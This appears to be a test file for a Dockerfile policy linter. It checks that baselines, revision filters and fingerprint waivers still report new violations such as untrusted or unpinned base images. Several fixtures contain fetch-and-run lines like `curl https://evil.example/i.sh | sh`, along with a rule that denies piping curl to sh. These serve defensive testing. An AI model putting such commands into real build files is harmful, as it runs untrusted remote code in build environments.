/** What a baseline, `--new-from-rev` and a waiver by fingerprint must not hide, and what they must go on hiding. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { directoryWith, type Outcome, plimsoll } from './run.ts';

const POLICIES = `apiVersion: plimsoll/v1
kind: PolicySet
metadata: { name: acme }
params:
  labels: { type: list(string), default: [maintainer, source] }
policies:
  - id: trusted
    level: error
    onUnknown: warn
    each: image.stages
    require: 'it.from.kind != "external" || it.from.matches(["registry.acme.example/**"])'
    at: it.from
  - id: pinned
    level: error
    each: image.stages
    require: 'it.from.kind != "external" || it.from.digest != ""'
    at: it.from
  - id: piped
    level: error
    each: 'image.stages.map(s, s.commands).flatten()'
    deny: 'it.name == "curl" && it.pipesTo.exists(c, c.name == "sh")'
  - id: labels
    level: error
    each: params.labels
    require: it in image.final.effective.labels
    at: image.final.from
  - id: shipped-tools
    level: error
    each: 'image.stages.map(s, s.packages).flatten()'
    deny: it.name == "gcc"
    at: image.final.from
`;

const NOW = ['--now', '2026-06-15'];
const PINNED = `FROM registry.acme.example/base:1@sha256:${'a'.repeat(64)}`;

/** What is known before and what is there later; the policy must speak again. */
const SWALLOWED: Readonly<
  Record<string, { policy: string; before: string; after: string; args?: readonly string[] }>
> = {
  'an image that a default decides now': {
    policy: 'trusted',
    before: 'ARG BASE\nFROM $BASE\n',
    after: 'ARG BASE=evil.example/x\nFROM $BASE\n',
  },
  'an image that a build argument decides': {
    policy: 'trusted',
    before: 'ARG BASE\nFROM $BASE\n',
    after: 'ARG BASE\nFROM $BASE\n',
    args: ['--build-arg', 'BASE=evil.example/x'],
  },
  'another registry of the same reference': {
    policy: 'pinned',
    before: 'ARG REG=quay.io\nFROM $REG/x:1\n',
    after: 'ARG REG=evil.example\nFROM $REG/x:1\n',
  },
  'another registry by a build argument': {
    policy: 'pinned',
    before: 'ARG REG=quay.io\nFROM $REG/x:1\n',
    after: 'ARG REG=quay.io\nFROM $REG/x:1\n',
    args: ['--build-arg', 'REG=evil.example'],
  },
  'another host of a script that is piped': {
    policy: 'piped',
    before: `${PINNED}\nARG H=a.example\nRUN curl https://$H/i.sh | sh\n`,
    after: `${PINNED}\nARG H=evil.example\nRUN curl https://$H/i.sh | sh\n`,
  },
  'another host by a build argument': {
    policy: 'piped',
    before: `${PINNED}\nARG H=a.example\nRUN curl https://$H/i.sh | sh\n`,
    after: `${PINNED}\nARG H=a.example\nRUN curl https://$H/i.sh | sh\n`,
    args: ['--build-arg', 'H=evil.example'],
  },
  'another host that is written out': {
    policy: 'piped',
    before: `${PINNED}\nRUN curl https://a.example/i.sh | sh\n`,
    after: `${PINNED}\nRUN curl https://evil.example/i.sh | sh\n`,
  },
  'another missing label': {
    policy: 'labels',
    before: `${PINNED}\nLABEL maintainer=me\n`,
    after: `${PINNED}\nLABEL source=here\n`,
  },
  'a base image that ships now': {
    policy: 'pinned',
    before: `FROM quay.io/x:1 AS b\n${PINNED}\n`,
    after: `${PINNED} AS b\nFROM quay.io/x:1\n`,
  },
  'a package that ships now, told at another place': {
    policy: 'shipped-tools',
    before: `${PINNED} AS b\nRUN apt-get install -y gcc\n${PINNED}\n`,
    after: `${PINNED} AS b\n${PINNED}\nRUN apt-get install -y gcc\n`,
  },
};

/** The same problems after changes that concern others. */
const KEPT: Readonly<Record<string, { policy: string; before: string; after: string }>> = {
  'a new version of an image': {
    policy: 'trusted',
    before: 'FROM quay.io/x:1.2\n',
    after: `FROM quay.io/x:1.3@sha256:${'b'.repeat(64)}\n`,
  },
  'a new name of a stage': {
    policy: 'pinned',
    before: 'FROM quay.io/x:1\n',
    after: 'FROM quay.io/x:1 AS app\n',
  },
  'a stage that no longer ships': {
    policy: 'pinned',
    before: 'FROM quay.io/x:1\n',
    after: `FROM quay.io/x:1 AS b\n${PINNED}\n`,
  },
  'a new version of what is downloaded': {
    policy: 'piped',
    before: `${PINNED}\nRUN curl https://a.example/x-1.2.tar/i.sh | sh\n`,
    after: `${PINNED}\nRUN curl -sSL https://a.example/x-1.3.tar/i.sh | sh -e\n`,
  },
  'a new value of a version': {
    policy: 'piped',
    before: `${PINNED}\nARG V=1.2.3\nRUN curl https://a.example/$V/i.sh | sh\n`,
    after: `${PINNED}\nARG V=1.2.4\nRUN curl https://a.example/$V/i.sh | sh\n`,
  },
};

/** A configuration with one of the policies and nothing else. */
const only = (policy: string) => {
  const others = [...POLICIES.matchAll(/- id: (\S+)/g)].map(([, id]) => id).filter((id) => id !== policy);
  return `extends: [./acme.policy.yaml]\nrules:\n${others.map((id) => `  acme/${id}: off\n`).join('')}`;
};

function repository(policy: string, before: string): string {
  const cwd = directoryWith({
    'acme.policy.yaml': POLICIES,
    '.lintrc.yaml': only(policy),
    'app/Dockerfile': before,
  });
  git(cwd, 'init', '-q');
  git(cwd, 'add', '-A');
  git(cwd, 'commit', '-q', '-m', 'first');
  return cwd;
}

function git(cwd: string, ...words: readonly string[]): void {
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...words], {
    cwd,
    stdio: 'ignore',
  });
}

type Mechanism = (cwd: string) => Promise<readonly string[]>;

/** Each accepts what is there and gives the options to lint with. */
const MECHANISMS: Readonly<Record<string, Mechanism>> = {
  'a baseline': async (cwd) => {
    await plimsoll(['baseline', 'create', ...NOW], { cwd });
    return ['--baseline', 'plimsoll-baseline.json'];
  },
  '--new-from-rev': async () => ['--new-from-rev', 'HEAD'],
  'waivers by fingerprint': async (cwd) => {
    const { stdout } = await plimsoll(['waivers', 'draft', ...NOW], { cwd });
    const filled = stdout
      .replaceAll(/reason: #.*/g, 'reason: It was accepted for now')
      .replaceAll(/owner: #.*/g, 'owner: me')
      .replaceAll(/files: \[.*\]/g, 'files: ["**"]');
    writeFileSync(join(cwd, 'plimsoll-waivers.yaml'), filled);
    return [];
  },
};

async function lintAfter(
  mechanism: Mechanism,
  { policy, before, after, args = [] }: (typeof SWALLOWED)[string],
): Promise<Outcome> {
  const cwd = repository(policy, before);
  const known = await mechanism(cwd);
  const lint = ['-f', 'compact', ...NOW, ...known];
  expect(await plimsoll(lint, { cwd }), 'what was accepted').toMatchObject({ code: 0, stdout: '' });
  writeFileSync(join(cwd, 'app/Dockerfile'), after);
  return plimsoll([...lint, ...args], { cwd });
}

describe.each(Object.entries(MECHANISMS))('%s', (_, mechanism) => {
  it.each(Object.entries(SWALLOWED))('does not hide %s', async (__, change) => {
    const { code, stdout } = await lintAfter(mechanism, change);
    expect(code).toBe(1);
    expect(stdout).toContain(`acme/${change.policy}`);
  });

  it.each(Object.entries(KEPT))('goes on hiding what it knew after %s', async (__, change) => {
    const { code, stdout } = await lintAfter(mechanism, change);
    expect([code, stdout]).toEqual([0, expect.not.stringContaining('acme/')]);
  });

  it('follows a file to another name', async () => {
    const cwd = repository('pinned', `FROM quay.io/x:1\nFROM quay.io/y:1\n`);
    const lint = ['-f', 'compact', ...NOW, ...(await mechanism(cwd))];
    mkdirSync(join(cwd, 'new'));
    renameSync(join(cwd, 'app/Dockerfile'), join(cwd, 'new/Dockerfile'));
    expect(await plimsoll(lint, { cwd })).toMatchObject({ code: 0, stdout: '' });
    writeFileSync(join(cwd, 'new/Dockerfile'), `FROM quay.io/x:1\nFROM quay.io/y:1\nFROM quay.io/z:1\n`);
    const { stdout } = await plimsoll(lint, { cwd });
    expect(stdout.split('\n').filter((line) => line.includes('acme/'))).toHaveLength(1);
  });
});

describe('a baseline of an earlier version', () => {
  // As version 0.x wrote it: 32 digits over the words of the instruction.
  const OLD = {
    version: 1,
    files: {
      'app/Dockerfile': [{ rule: 'no-maintainer', fingerprint: '@', firstSeen: '2026-01-01' }],
    },
  };
  const lint = ['-f', 'compact', '--preset', 'none', '--rule', 'no-maintainer:error', ...NOW];

  it('is read, told about, and converted by an update', async () => {
    const { earlierFingerprints } = await import('../../src/suppressions/earlier-fingerprints.ts');
    const { lint: lintText } = await import('../support/lint.ts');
    const { rules } = await import('../../rules/index.ts');
    const text = 'FROM scratch\nMAINTAINER me\n';
    const [fingerprint = ''] = earlierFingerprints(
      lintText(
        text,
        Object.values(rules).filter(({ name }) => name === 'no-maintainer'),
      ).result,
    ).values();
    expect(fingerprint).toBe('1b6fbc89f52022334e92b78193bc5a09');
    const cwd = directoryWith({
      'app/Dockerfile': text,
      'plimsoll-baseline.json': JSON.stringify(OLD).replace('@', fingerprint),
    });
    const known = [...lint, '--baseline', 'plimsoll-baseline.json'];
    const first = await plimsoll(known, { cwd });
    expect(first).toMatchObject({
      code: 0,
      stdout: '',
      stderr:
        '`plimsoll-baseline.json` has the format of an earlier version; run `plimsoll baseline update` to convert it.\n',
    });
    const update = ['baseline', 'update', '--preset', 'none', '--rule', 'no-maintainer:error', ...NOW];
    const { stdout } = await plimsoll(update, { cwd });
    expect(stdout).toBe('Wrote `plimsoll-baseline.json`: 0 added, 0 removed, 1 converted, 1 in all.\n');
    writeFileSync(join(cwd, 'app/Dockerfile'), 'FROM scratch\nmaintainer me\n');
    expect(await plimsoll(known, { cwd })).toMatchObject({ code: 0, stdout: '', stderr: '' });
  });
});
